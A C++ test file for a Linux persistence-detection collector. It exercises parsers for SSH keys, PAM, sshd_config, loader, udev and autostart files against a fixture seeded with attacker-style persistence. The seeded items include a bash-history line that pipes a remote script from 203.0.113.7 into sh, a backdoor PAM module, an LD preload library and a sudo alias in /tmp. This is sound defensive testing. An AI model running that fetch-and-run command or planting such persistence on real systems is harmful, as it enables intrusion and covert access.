// The persistence collector and its parsers: authorized_keys (options, fingerprints, hostile
// lines), PAM, sshd_config, the loader's files, udev rules, desktop entries; the collector over
// the persistence_basic fixture (golden), with injected failures, declared inputs and caps.
#include <algorithm>
#include <catch2/catch.hpp>
#include <filesystem>
#include <fstream>
#include <map>
#include <random>
#include <set>

#include "collectors/framework/collector.h"
#include "collectors/persistence/persistence_collector.h"
#include "platform/base64.h"
#include "platform/fault_fs.h"
#include "platform/parsers/authorized_keys.h"
#include "platform/parsers/loader_config.h"
#include "platform/parsers/pam.h"
#include "platform/parsers/sshd_config.h"
#include "tests/support/evidence_check.h"
#include "tests/support/fixture_root.h"
#include "tests/support/golden.h"
#include "tests/support/render.h"

using namespace hozen;
namespace parsers = platform::parsers;

namespace {

// A real ed25519 public key (generated offline); `ssh-keygen -lf` prints this fingerprint.
constexpr const char* kAliceKeyLine =
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBgTjA/3aecGz49h36hb1VbzIIK7lcrkvvt2Aj5P1rPn alice@laptop";

std::vector<const v1::PersistenceEntry*> entries(const testing::CaptureSink& s,
                                                 std::string_view kind) {
  std::vector<const v1::PersistenceEntry*> out;
  for (const auto& r : s.records) {
    if (r.has_persistence_entry() && r.persistence_entry().kind() == kind)
      out.push_back(&r.persistence_entry());
  }
  return out;
}

bool has_flag(const v1::PersistenceEntry& e, std::string_view f) {
  return std::any_of(e.flags().begin(), e.flags().end(),
                     [&](const std::string& x) { return x == f; });
}

bool has_anomaly(const testing::CaptureSink& s, std::string_view kind, std::string_view path,
                 std::uint64_t line) {
  return std::any_of(s.anomalies.begin(), s.anomalies.end(), [&](const auto& a) {
    return a.kind == kind && a.path == path && a.line == line;
  });
}

}  // namespace

TEST_CASE("base64: round trip, padding, and refusals", "[persistence][base64]") {
  for (const std::string& s : std::vector<std::string>{"", "f", "fo", "foo", "foob", "fooba",
                                                       "foobar", std::string("\0\xff\x80", 3)}) {
    INFO(s);
    CHECK(platform::base64_decode(platform::base64_encode(s)) == s);
    CHECK(platform::base64_decode(platform::base64_encode(s, false)) == s);
  }
  CHECK(platform::base64_encode("fo") == "Zm8=");
  CHECK(platform::base64_encode("fo", false) == "Zm8");
  CHECK_FALSE(platform::base64_decode("Zm8=="));  // wrong padding
  CHECK_FALSE(platform::base64_decode("Z"));      // a lone 6-bit group
  CHECK_FALSE(platform::base64_decode("Zm 8"));   // whitespace
  CHECK_FALSE(platform::base64_decode("Zm=8"));   // '=' in the middle
  CHECK_FALSE(platform::base64_decode("Zm8\xff"));
}

TEST_CASE("authorized_keys: options, fingerprint, hostile lines",
          "[persistence][authorized_keys]") {
  SECTION("plain key: fingerprint as ssh-keygen -l prints it") {
    auto p = parsers::parse_authorized_keys(std::string(kAliceKeyLine) + "\n");
    REQUIRE(p.entries.size() == 1);
    const auto& k = p.entries[0];
    CHECK(k.key_type == "ssh-ed25519");
    CHECK(k.blob_type == "ssh-ed25519");
    CHECK_FALSE(k.type_mismatch);
    CHECK(k.comment == "alice@laptop");
    CHECK(k.options_raw.empty());
    CHECK(k.fingerprint == "SHA256:HzSPLwc0S9ApYX5StYTM0YNlMx3CgEIk75Fl0+rocGM");
  }
  SECTION("options with quoted commas, escaped quotes and spaces") {
    auto p = parsers::parse_authorized_keys(
        "command=\"/bin/echo \\\"a, "
        "b\\\"\",from=\"10.0.0.0/8,!10.0.0.5\",no-pty,Environment=\"X=1\" " +
        std::string(kAliceKeyLine) + "\r\n");
    REQUIRE(p.entries.size() == 1);
    const auto& k = p.entries[0];
    REQUIRE(k.options.size() == 4);
    CHECK(k.options[0].name == "command");
    CHECK(k.options[0].value == "/bin/echo \"a, b\"");
    CHECK(k.options[1].value == "10.0.0.0/8,!10.0.0.5");
    CHECK(k.options[2].name == "no-pty");
    CHECK_FALSE(k.options[2].has_value);
    CHECK(parsers::find_option(k, "environment")->value == "X=1");  // names are case-insensitive
    CHECK(k.comment == "alice@laptop");                             // '\r' dropped
  }
  SECTION("declared type differs from the blob's") {
    auto line = std::string(kAliceKeyLine);
    line.replace(0, 11, "ssh-rsa");
    auto p = parsers::parse_authorized_keys(line);
    REQUIRE(p.entries.size() == 1);
    CHECK(p.entries[0].type_mismatch);
    CHECK(p.entries[0].blob_type == "ssh-ed25519");
  }
  SECTION("certificate and security-key types are key types") {
    CHECK(parsers::is_ssh_key_type("ssh-ed25519-cert-v01@openssh.com"));
    CHECK(parsers::is_ssh_key_type("sk-ssh-ed25519@openssh.com"));
    CHECK_FALSE(parsers::is_ssh_key_type("-cert-v01@openssh.com"));
  }
  SECTION("named bad variants are malformed, the good lines around them survive") {
    std::string text = std::string(kAliceKeyLine) + "\n" +
                       "ssh-ed25519 AAAA!!!! bad-base64\n"  // 2
                       "command=\"echo unterminated " +
                       kAliceKeyLine + "\n" +                         // 3
                       "2048 65537 12345 ssh1\n"                      // 4
                       "no-pty\n"                                     // 5
                       "ssh-ed25519\n"                                // 6
                       "no-pty,command=\"x\" bogus-type AAAA\n"       // 7
                       + std::string("\x00\xff\xfe garbage\n", 12) +  // 8
                       "   # indented comment\n\n" + kAliceKeyLine;   // 9, 10, 11
    auto p = parsers::parse_authorized_keys(text);
    REQUIRE(p.entries.size() == 2);
    CHECK(p.entries[1].line == 11);
    std::map<std::uint64_t, std::string> bad;
    for (const auto& m : p.malformed) bad[m.line] = m.reason;
    CHECK(bad.size() == 7);
    CHECK(bad[2] == "key is not valid base64");
    CHECK(bad[3] == "unterminated quote in the options field");
    CHECK(bad[4].starts_with("SSH1"));
    CHECK(bad[5] == "options without a key");
    CHECK(bad[6] == "key type without a key");
    CHECK(bad[7] == "unknown key type");
    CHECK(bad[8] == "unknown key type");  // "\0\xff\xfe" read as options, then "garbage"
  }
}

TEST_CASE("pam: rules, brackets, includes, continuations, bad lines", "[persistence][pam]") {
  auto p = parsers::parse_pam(
      "# comment\n"
      "auth\t[success=1 default=ignore]\tpam_unix.so nullok # trailing comment\n"
      "@include common-auth\n"
      "-session optional pam_systemd.so\n"
      "auth required /tmp/x.so \\\n"
      "   arg1 [a b \\] c]\n"
      "Auth Required pam_deny.so\n"
      "account include system-auth\n"
      "bogus line\n"
      "auth [unterminated pam_unix.so\n"
      "foo required pam_unix.so\n"
      "@include\n"
      "\xff\xfe\x00 x y\n",
      false);
  REQUIRE(p.entries.size() == 6);
  CHECK(p.entries[0].control == "[success=1 default=ignore]");
  CHECK(p.entries[0].module == "pam_unix.so");
  CHECK(p.entries[0].args == std::vector<std::string>{"nullok"});
  CHECK(p.entries[1].at_include == "common-auth");
  CHECK(p.entries[2].ignore_if_missing);
  CHECK(p.entries[2].rule_type == "session");
  CHECK(p.entries[3].line == 5);
  CHECK(p.entries[3].args == std::vector<std::string>{"arg1", "a b ] c"});
  CHECK(p.entries[4].rule_type == "auth");
  CHECK(p.entries[4].control == "required");
  CHECK(parsers::pam_control_includes(p.entries[5].control));
  std::set<std::uint64_t> bad;
  for (const auto& m : p.malformed) bad.insert(m.line);
  CHECK(bad == std::set<std::uint64_t>{9, 10, 11, 12, 13});

  auto conf = parsers::parse_pam("login auth required pam_unix.so\nother account\n", true);
  REQUIRE(conf.entries.size() == 1);
  CHECK(conf.entries[0].service == "login");
  CHECK(conf.malformed.size() == 1);
}

TEST_CASE("pam: a comment is cut before continuation lines are joined", "[persistence][pam]") {
  SECTION("trailing-comment-ending-in-backslash") {
    auto p = parsers::parse_pam(
        "auth required pam_unix.so # x \\\n"
        "auth optional pam_exec.so /tmp/.x\n",
        false);
    REQUIRE(p.entries.size() == 2);
    CHECK(p.entries[0].module == "pam_unix.so");
    CHECK(p.entries[0].args.empty());
    CHECK(p.entries[1].module == "pam_exec.so");
    CHECK(p.entries[1].args == std::vector<std::string>{"/tmp/.x"});
    CHECK(p.entries[1].line == 2);
    CHECK(p.malformed.empty());
  }
  SECTION("whole-line-comment-ending-in-backslash") {
    auto p = parsers::parse_pam("# x \\\nauth optional pam_exec.so /tmp/.x\n", false);
    REQUIRE(p.entries.size() == 1);
    CHECK(p.entries[0].module == "pam_exec.so");
    CHECK(p.entries[0].line == 2);
  }
  SECTION("comment-line-inside-a-continuation-is-skipped") {
    auto p = parsers::parse_pam("auth optional \\\n# x\n\n  pam_exec.so /tmp/.x\n", false);
    REQUIRE(p.entries.size() == 1);
    CHECK(p.entries[0].module == "pam_exec.so");
    CHECK(p.entries[0].line == 1);
  }
  SECTION("backslash-followed-by-blanks-still-continues") {
    auto p = parsers::parse_pam("auth optional \\ \t\npam_exec.so /tmp/.x\n", false);
    REQUIRE(p.entries.size() == 1);
    CHECK(p.entries[0].module == "pam_exec.so");
  }
}

TEST_CASE("udev: comments are dropped before continuations; e\"\" and i\"\" values",
          "[persistence][loader]") {
  SECTION("comment-ending-in-backslash-does-not-swallow-next-rule") {
    auto p = parsers::parse_udev_rules("# x \\\nACTION==\"add\", RUN+=\"/tmp/.x\"\n");
    REQUIRE(p.entries.size() == 1);
    CHECK(p.entries[0].executes);
    CHECK(p.entries[0].line == 2);
    REQUIRE(p.entries[0].pairs.size() == 2);
    CHECK(p.entries[0].pairs[1].value == "/tmp/.x");
  }
  SECTION("indented-comment-inside-a-continuation-is-skipped") {
    auto p = parsers::parse_udev_rules("ACTION==\"add\", \\\n  # x \\\n  RUN+=\"/tmp/.x\"\n");
    REQUIRE(p.entries.size() == 1);
    CHECK(p.entries[0].executes);
    CHECK(p.entries[0].line == 1);
  }
  SECTION("escaped-value-prefix") {
    auto p = parsers::parse_udev_rules("ACTION==\"add\", RUN+=e\"/tmp/.x\\x41\\\"q\\n\"\n");
    REQUIRE(p.entries.size() == 1);
    CHECK(p.malformed.empty());
    CHECK(p.entries[0].executes);
    REQUIRE(p.entries[0].pairs.size() == 2);
    CHECK(p.entries[0].pairs[1].escaped);
    CHECK(p.entries[0].pairs[1].value == "/tmp/.xA\"q\n");
  }
  SECTION("case-insensitive-value-prefix") {
    auto p = parsers::parse_udev_rules("ACTION==i\"ADD\", RUN+=\"/tmp/.x\"\n");
    REQUIRE(p.entries.size() == 1);
    CHECK(p.entries[0].executes);
    CHECK(p.entries[0].pairs[0].case_insensitive);
    CHECK(p.entries[0].pairs[0].value == "ADD");
  }
}

TEST_CASE("sshd_config: keywords, separators, quotes, Match blocks", "[persistence][sshd]") {
  auto p = parsers::parse_sshd_config(
      "PermitRootLogin yes\n"
      "  passwordauthentication=no\n"
      "Banner \"/etc/my banner\"  # comment\n"
      "Subsystem\tsftp internal-sftp -l INFO\n"
      "Match User bob Address 10.0.0.*\n"
      "  ForceCommand /usr/bin/true\n"
      "Bad\"Key x\n"
      "Foo \"unterminated\n"
      "NoArgs\n"
      "Match all\n"
      "X11Forwarding no\n");
  REQUIRE(p.entries.size() == 8);
  CHECK(p.entries[0].keyword == "permitrootlogin");
  CHECK(p.entries[1].keyword_raw == "passwordauthentication");
  CHECK(p.entries[1].args == std::vector<std::string>{"no"});
  CHECK(p.entries[2].args == std::vector<std::string>{"/etc/my banner"});
  CHECK(p.entries[3].args.size() == 4);
  CHECK(p.entries[4].keyword == "match");
  CHECK(p.entries[4].match.empty());
  CHECK(p.entries[5].match == "User bob Address 10.0.0.*");
  CHECK(p.entries[7].match == "all");
  CHECK(p.malformed.size() == 3);

  auto inc = parsers::parse_sshd_config("PasswordAuthentication yes\n", "User alice");
  REQUIRE(inc.entries.size() == 1);
  CHECK(inc.entries[0].match == "User alice");
}

TEST_CASE("loader, udev, modules-load and desktop parsers", "[persistence][loader]") {
  auto pre = parsers::parse_ld_so_preload("/a.so /b.so:/c.so # /not.so\n\t/d.so\n");
  REQUIRE(pre.entries.size() == 4);
  CHECK(pre.entries[3].value == "/d.so");
  CHECK(pre.entries[3].line == 2);

  auto conf = parsers::parse_ld_so_conf(
      "include /etc/ld.so.conf.d/*.conf\n/usr/local/lib\n# x\nhwcap 0 nosegneg\na:b\n");
  REQUIRE(conf.entries.size() == 5);
  CHECK(conf.entries[0].kind == parsers::LdSoConfLine::Kind::kInclude);
  CHECK(conf.entries[2].kind == parsers::LdSoConfLine::Kind::kHwcap);
  CHECK(conf.entries[4].value == "b");

  auto udev = parsers::parse_udev_rules(
      "ACTION==\"add\", RUN+=\"/tmp/x \\\"q\\\"\"\n"
      "KERNEL==\"sd*\", \\\n  IMPORT{program}=\"/bin/id %k\"\n"
      "ENV{X}=\"1\"\n"
      "KERNEL==\"x\", RUN+=\"unterminated\n"
      "KERNEL== oops\n"
      "NOOP\n");
  REQUIRE(udev.entries.size() == 3);
  CHECK(udev.entries[0].executes);
  CHECK(udev.entries[0].pairs[1].value == "/tmp/x \"q\"");
  CHECK(udev.entries[1].line == 2);
  CHECK(udev.entries[1].executes);
  CHECK(udev.entries[1].pairs[1].attr == "program");
  CHECK_FALSE(udev.entries[2].executes);
  CHECK(udev.malformed.size() == 3);

  auto mods = parsers::parse_modules_load("# c\n; c\n loop \n\nfoo\n");
  REQUIRE(mods.entries.size() == 2);
  CHECK(mods.entries[0].value == "loop");

  auto d =
      parsers::parse_desktop_entry("[Other]\nExec=no\n[Desktop Entry]\nExec=/bin/x --y\nbroken\n");
  REQUIRE(d.entries.size() == 1);
  CHECK(d.entries[0].value == "/bin/x --y");
  CHECK(d.malformed.size() == 1);
}

TEST_CASE("AuthorizedKeysFile tokens and temp-dir detection", "[persistence]") {
  using collectors::persistence::expand_authorized_keys_file;
  CHECK(expand_authorized_keys_file(".ssh/authorized_keys", "bob", "/home/bob", 1001) ==
        "/home/bob/.ssh/authorized_keys");
  CHECK(expand_authorized_keys_file("/etc/ssh/keys/%u-%U", "bob", "/home/bob", 1001) ==
        "/etc/ssh/keys/bob-1001");
  CHECK(expand_authorized_keys_file("%h/k%%%x", "bob", "/home/bob", 1) == "/home/bob/k%%x");
  CHECK(collectors::persistence::in_temp_dir("/tmp/x"));
  CHECK(collectors::persistence::in_temp_dir("/bin/sh -c /dev/shm/.x"));
  CHECK_FALSE(collectors::persistence::in_temp_dir("/usr/bin/tmp"));
}

TEST_CASE("persistence: the persistence_basic fixture", "[persistence]") {
  testing::FixtureRoot fx("persistence_basic");
  collectors::persistence::PersistenceCollector c;
  auto sink = testing::run_on_root(c, fx.root());
  CHECK(sink.outcome.status == v1::RUN_OK);
  CHECK(testing::check_sources_preserved(sink.records) > 40);

  SECTION("command histories are preserved files, a link to /dev/null recorded as a link") {
    const v1::PreservedFile* alice = nullptr;
    const v1::PreservedFile* root = nullptr;
    for (const auto& r : sink.records) {
      if (!r.has_preserved_file()) continue;
      if (r.preserved_file().path() == "/home/alice/.bash_history") alice = &r.preserved_file();
      if (r.preserved_file().path() == "/root/.bash_history") root = &r.preserved_file();
    }
    REQUIRE(alice != nullptr);
    CHECK(alice->raw().find("curl -s http://203.0.113.7/x.sh | sh") != std::string::npos);
    CHECK_FALSE(alice->sha256().empty());
    REQUIRE(root != nullptr);
    CHECK(root->link_target() == "/dev/null");
    CHECK(root->raw().empty());
  }

  SECTION("authorized keys of every account, with options and fingerprints") {
    auto keys = entries(sink, "authorized_key");
    std::map<std::string, std::vector<const v1::PersistenceEntry*>> by_path;
    for (const auto* k : keys) by_path[k->path()].push_back(k);
    REQUIRE(by_path["/root/.ssh/authorized_keys"].size() == 3);
    const auto& forced = *by_path["/root/.ssh/authorized_keys"][0];
    CHECK(forced.account() == "root");
    CHECK(forced.command() == "/usr/local/bin/backup.sh --nightly \"full\"");
    CHECK(forced.authorized_key().from() == "10.0.0.0/8,!10.0.0.5");
    CHECK(forced.authorized_key().fingerprint() ==
          "SHA256:/gmWOp8ZpN+weZiiZw2yiNLToW2skn/tyN28IvPf/JE");
    CHECK(has_flag(forced, "forced_command"));
    CHECK(has_flag(forced, "from_restriction"));
    CHECK(has_flag(forced, "root_account"));
    CHECK(forced.source().line() == 2);
    const auto& mismatch = *by_path["/root/.ssh/authorized_keys"][2];
    CHECK(has_flag(mismatch, "key_type_mismatch"));
    CHECK(has_flag(mismatch, "sets_environment"));
    // bob's file is a symlink to root's keys: parsed again under bob, link recorded.
    REQUIRE(by_path["/home/bob/.ssh/authorized_keys"].size() == 3);
    const auto& bobs = *by_path["/home/bob/.ssh/authorized_keys"][1];
    CHECK(bobs.account() == "bob");
    CHECK(bobs.authorized_key().file_is_symlink());
    CHECK(bobs.authorized_key().file_link_target() == "/root/.ssh/authorized_keys");
    CHECK(has_flag(bobs, "file_is_symlink"));
    CHECK(bobs.authorized_key().fingerprint() ==
          "SHA256:+PfJ/ABhcACTOTlC9J7aDs1BFY/O1iTmkwQqpbyHru0");
    // AuthorizedKeysFile /etc/ssh/authorized_keys/%u, expanded for alice.
    REQUIRE(by_path["/etc/ssh/authorized_keys/alice"].size() == 1);
    CHECK(by_path["/etc/ssh/authorized_keys/alice"][0]->account() == "alice");
    CHECK(by_path["/home/alice/.ssh/authorized_keys"].size() == 1);
    CHECK(
        has_anomaly(sink, "authorized_keys_malformed_line", "/home/alice/.ssh/authorized_keys", 2));
    CHECK(
        has_anomaly(sink, "authorized_keys_malformed_line", "/home/alice/.ssh/authorized_keys", 3));
    CHECK(
        has_anomaly(sink, "authorized_keys_malformed_line", "/home/alice/.ssh/authorized_keys", 4));
    CHECK(has_anomaly(sink, "authorized_keys_malformed_line", "/home/alice/.ssh/authorized_keys2",
                      1));
    CHECK(has_anomaly(sink, "passwd_malformed_line", "/etc/passwd", 7));
  }
  SECTION("loader preload and search path") {
    auto pre = entries(sink, "ld_preload");
    REQUIRE(pre.size() == 3);
    CHECK(pre[0]->command() == "/usr/lib/libevil.so");
    CHECK(pre[0]->library().exists());
    CHECK(pre[1]->command() == "/tmp/libgone.so");
    CHECK(has_flag(*pre[1], "library_missing"));
    CHECK(has_flag(*pre[1], "runs_from_tmp"));
    CHECK(has_flag(*pre[2], "relative_name"));
    auto dirs = entries(sink, "ld_so_conf_dir");
    REQUIRE(dirs.size() == 5);  // README is not *.conf
    CHECK(dirs[4]->command() == "/dev/shm/.lib");
    CHECK(has_flag(*dirs[4], "runs_from_tmp"));
    CHECK(dirs[4]->library().included_from() == "/etc/ld.so.conf");
  }
  SECTION("PAM: pam_exec, modules outside the standard dirs, missing modules") {
    std::map<std::string, const v1::PersistenceEntry*> by_mod;
    for (const auto* e : entries(sink, "pam_rule"))
      by_mod[e->pam().service() + ":" + e->pam().module()] = e;
    const auto* exec = by_mod["common-auth:pam_exec.so"];
    REQUIRE(exec);
    CHECK(has_flag(*exec, "pam_exec"));
    CHECK(has_flag(*exec, "exposes_password"));
    CHECK(has_flag(*exec, "runs_from_tmp"));
    CHECK(exec->command() == "/tmp/x");
    const auto* back = by_mod["common-auth:/usr/local/lib/pam_backdoor.so"];
    REQUIRE(back);
    CHECK(has_flag(*back, "module_outside_standard_dirs"));
    CHECK(has_flag(*back, "module_not_found"));
    CHECK(back->pam().args(0) == "debug");
    CHECK(by_mod["common-auth:pam_unix.so"]->pam().module_resolved() ==
          "/lib/x86_64-linux-gnu/security/pam_unix.so");
    CHECK(has_flag(*by_mod["sshd:pam_selinux.so"], "module_not_found"));
    CHECK_FALSE(has_flag(*by_mod["sshd:pam_systemd.so"], "module_not_found"));  // '-' rule
    CHECK(by_mod["sshd:common-auth"]->pam().module_found());
    CHECK(by_mod["garbage:pam_limits.so"]);  // binary garbage did not stop the parser
    CHECK(has_anomaly(sink, "pam_malformed_line", "/etc/pam.d/sshd", 6));
  }
  SECTION("sshd_config with Include and Match, raw order kept") {
    auto opts = entries(sink, "sshd_option");
    std::vector<std::string> order;
    for (const auto* e : opts) order.push_back(e->sshd().keyword() + "@" + e->sshd().match());
    CHECK(order == std::vector<std::string>{
                       "include@", "passwordauthentication@", "authorizedkeyscommand@",
                       "authorizedkeyscommanduser@", "permitrootlogin@", "passwordauthentication@",
                       "authorizedkeysfile@", "subsystem@", "match@", "forcecommand@User bob",
                       "passwordauthentication@User bob"});
    CHECK(opts[1]->sshd().included_from() == "/etc/ssh/sshd_config");
    CHECK(opts[1]->sshd().include_depth() == 1);
    CHECK(has_flag(*opts[1], "password_authentication"));
    CHECK(has_flag(*opts[2], "runs_from_tmp"));
    CHECK(has_flag(*opts[4], "permit_root_login"));
    CHECK(opts[9]->command() == "/usr/bin/true");
    CHECK(
        has_anomaly(sink, "sshd_config_malformed_line", "/etc/ssh/sshd_config.d/10-local.conf", 2));
    CHECK(
        has_anomaly(sink, "sshd_config_malformed_line", "/etc/ssh/sshd_config.d/10-local.conf", 5));
  }
  SECTION("udev rules that run programs; other rules only counted") {
    auto u = entries(sink, "udev_rule");
    REQUIRE(u.size() == 5);
    CHECK(u[0]->command() == "/tmp/x");
    CHECK(has_flag(*u[0], "runs_from_tmp"));
    CHECK(u[0]->udev().match_keys() == "ACTION==\"add\", SUBSYSTEM==\"usb\"");
    CHECK(u[1]->udev().attr() == "program");
    CHECK(u[1]->source().line() == 4);
    // udevd skips the leading blanks of a continuation line before joining it.
    CHECK(u[1]->raw() == "SUBSYSTEM==\"net\", IMPORT{program}=\"/usr/local/bin/netid %k\"");
    CHECK(u[2]->command() == "never-runs");  // PROGRAM== still runs the program
    CHECK(u[3]->udev().key() == "PROGRAM");
    CHECK(u[4]->udev().attr() == "builtin");
    CHECK(has_anomaly(sink, "udev_malformed_line", "/etc/udev/rules.d/99-evil.rules", 6));
  }
  SECTION("files that run as code: shell init, rc, motd, autostart, modules") {
    auto rc = entries(sink, "ssh_rc");
    REQUIRE(rc.size() == 1);
    CHECK(rc[0]->account() == "bob");
    auto aliases = entries(sink, "shell_alias");
    REQUIRE(aliases.size() == 2);
    CHECK(aliases[1]->command() == "sudo='/tmp/.s/sudo'");
    CHECK(aliases[1]->source().line() == 4);
    CHECK(has_flag(*aliases[1], "runs_from_tmp"));
    std::map<std::string, const v1::PersistenceEntry*> init;
    for (const auto* e : entries(sink, "shell_init")) init[e->path()] = e;
    REQUIRE(init.count("/etc/profile.d/zz-env.sh"));
    CHECK(has_flag(*init["/etc/profile.d/zz-env.sh"], "mentions_ld_preload"));
    CHECK(has_flag(*init["/etc/profile.d/zz-env.sh"], "world_writable"));
    CHECK(init["/home/alice/.bashrc"]->file().active_lines() == 4);
    auto motd = entries(sink, "motd_script");
    REQUIRE(motd.size() == 3);
    CHECK(has_flag(*motd[1], "not_executable"));
    CHECK(motd[2]->file().executable());
    auto xdg = entries(sink, "xdg_autostart");
    REQUIRE(xdg.size() == 2);
    CHECK(xdg[0]->command() == "/home/alice/.local/bin/upd --quiet");
    CHECK(xdg[0]->account() == "alice");
    CHECK(xdg[1]->command() == "/usr/libexec/tracker-miner-fs-3");
    CHECK(has_flag(*xdg[1], "hidden"));
    auto mods = entries(sink, "module_load");
    REQUIRE(mods.size() == 3);
    CHECK(mods[1]->command() == "rootkit_mod");
  }
  SECTION("golden") { testing::check_golden("persistence_basic", testing::render_run(sink)); }
}

TEST_CASE("persistence: injected failures are item errors; inputs stay declared", "[persistence]") {
  testing::FixtureRoot fx("persistence_basic");
  auto real = platform::RootedFileSystem::open(fx.root());
  REQUIRE(real);
  platform::FaultFileSystem fs(**real);
  fs.fail("/root/.ssh/authorized_keys", EACCES);
  fs.fail("/etc/pam.d", EIO);
  collectors::persistence::PersistenceCollector c;
  auto sink = testing::run_on_fs(c, fs);
  CHECK(sink.outcome.status == v1::RUN_OK);
  std::map<std::string, v1::ItemStatus> by_item;
  for (const auto& e : sink.errors) by_item[e.item] = e.status;
  CHECK(by_item["/root/.ssh/authorized_keys"] == v1::ITEM_DENIED);
  CHECK(by_item["/etc/pam.d"] == v1::ITEM_FAILED);
  // alice's, /etc/ssh/authorized_keys/alice, and root's keys through bob's symlink (another path)
  CHECK(entries(sink, "authorized_key").size() == 5);
  CHECK(entries(sink, "udev_rule").size() == 5);

  // Every path read is declared: homes from /etc/passwd ("~/"), and paths that parsed lines
  // name (libraries, PAM modules by absolute path) only through lstat (kStatNamedPaths).
  auto inputs = c.inputs();
  auto homes = testing::fixture_homes(fx.root());
  auto stat_only = fs.stat_only();
  for (const auto& p : fs.accessed()) {
    INFO(p);
    CHECK((collectors::input_allowed(p, inputs, homes) || stat_only.count(p)));
  }
}

TEST_CASE("persistence: huge files are capped and flagged, never a digest of a part",
          "[persistence]") {
  testing::FixtureRoot fx("persistence_basic");
  collectors::Limits limits;
  limits.max_file_bytes = 64;
  collectors::persistence::PersistenceCollector c;
  auto sink = testing::run_on_root(c, fx.root(), limits);
  CHECK(has_anomaly(sink, "persistence_file_capped", "/root/.ssh/authorized_keys", 0));
  for (const auto& r : sink.records) {
    if (r.has_preserved_file() && r.preserved_file().truncated())
      CHECK(r.preserved_file().sha256().empty());
  }
  testing::check_sources_preserved(sink.records);
}

TEST_CASE("persistence: Include loops, missing files and an empty root", "[persistence]") {
  testing::TempDir dir;
  std::string root = dir / "root";
  testing::apply_manifest(
      root,
      "write etc/ssh/sshd_config Include\\ssshd_config\\nInclude\\s/etc/ssh/*.conf\\nPort\\s22\\n\n"
      "write etc/ssh/a.conf Include\\s/etc/ssh/sshd_config\\n\n"
      "write etc/ld.so.conf include\\s/etc/ld.so.conf\\ninclude\\s/etc/*/x.conf\\n\n"
      "write etc/passwd root:x:0:0::/:/bin/sh\\nghost:x:5:5::/home/none:/bin/sh\\n\n");
  collectors::persistence::PersistenceCollector c;
  auto sink = testing::run_on_root(c, root);
  CHECK(sink.outcome.status == v1::RUN_OK);
  CHECK(has_anomaly(sink, "sshd_include_loop", "/etc/ssh/sshd_config", 0));
  CHECK(has_anomaly(sink, "sshd_include_loop", "/etc/ssh/a.conf", 0));
  CHECK(has_anomaly(sink, "ld_so_conf_include_loop", "/etc/ld.so.conf", 0));
  CHECK(has_anomaly(sink, "include_glob_unsupported", "/etc/ld.so.conf", 2));
  auto opts = entries(sink, "sshd_option");
  REQUIRE(opts.size() == 4);  // Include, Include, a.conf's Include, Port
  CHECK(opts[3]->sshd().keyword() == "port");
  CHECK(entries(sink, "authorized_key").empty());  // "/" is skipped, /home/none does not exist
  CHECK(sink.errors.empty());
  testing::check_sources_preserved(sink.records);

  testing::TempDir empty;
  auto none = testing::run_on_root(c, empty.path());
  CHECK(none.outcome.status == v1::RUN_OK);
  CHECK(none.records.empty());
  CHECK(none.errors.empty());
}

TEST_CASE("persistence parsers survive random bytes", "[persistence][dpkg]") {
  std::mt19937 rng(4);
  const std::string alphabet =
      std::string("\0\n\r\t \\\"[]{}=:,#@-+!*%", 22) + "ssh-ed25519 AAAA auth Package: ";
  for (int i = 0; i < 2000; ++i) {
    std::string s(rng() % 300, '\0');
    for (auto& ch : s)
      ch = (rng() % 2) ? static_cast<char>(rng()) : alphabet[rng() % alphabet.size()];
    (void)parsers::parse_authorized_keys(s);
    (void)parsers::parse_pam(s, i % 2);
    (void)parsers::parse_sshd_config(s);
    (void)parsers::parse_udev_rules(s);
    (void)parsers::parse_ld_so_conf(s);
    (void)parsers::parse_ld_so_preload(s);
    (void)parsers::parse_desktop_entry(s);
    (void)platform::base64_decode(s);
  }
  SUCCEED();
}

TEST_CASE("persistence: authorized-keys-per-account-sharing-a-home and home-is-root-dir", "[persistence]") {
  testing::FixtureRoot fx("persistence_basic");
  const std::string& r = fx.root();
  const std::string key =
      "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBgTjA/3aecGz49h36hb1VbzIIK7lcrkvvt2Aj5P1rPn ";
  {
    // toor shares /root with root: its "%u" key file was never read when homes were deduplicated.
    std::ofstream out(r + "/etc/ssh/authorized_keys/toor", std::ios::binary);
    out << key << "toor@implant\n";
  }
  {
    std::ofstream out(r + "/etc/passwd", std::ios::app | std::ios::binary);
    out << "svc:x:998:998::/:/bin/sh\n";
  }
  std::filesystem::create_directories(r + "/.ssh");
  {
    std::ofstream out(r + "/.ssh/authorized_keys", std::ios::binary);
    out << key << "svc@implant\n";
  }
  collectors::persistence::PersistenceCollector c;
  auto sink = testing::run_on_root(c, r);
  std::map<std::string, std::vector<const v1::PersistenceEntry*>> by_path;
  for (const auto* k : entries(sink, "authorized_key")) by_path[k->path()].push_back(k);
  REQUIRE(by_path["/etc/ssh/authorized_keys/toor"].size() == 1);
  CHECK(by_path["/etc/ssh/authorized_keys/toor"][0]->account() == "toor");
  CHECK(by_path["/etc/ssh/authorized_keys/toor"][0]->account_uid() == 0);
  REQUIRE(by_path["/.ssh/authorized_keys"].size() == 1);
  CHECK(by_path["/.ssh/authorized_keys"][0]->account() == "svc");
  // /root/.ssh/authorized_keys is read once (root first), not once per account sharing /root.
  CHECK(by_path["/root/.ssh/authorized_keys"].size() == 3);
  CHECK(by_path["/root/.ssh/authorized_keys"][0]->account() == "root");
  testing::check_sources_preserved(sink.records);
}
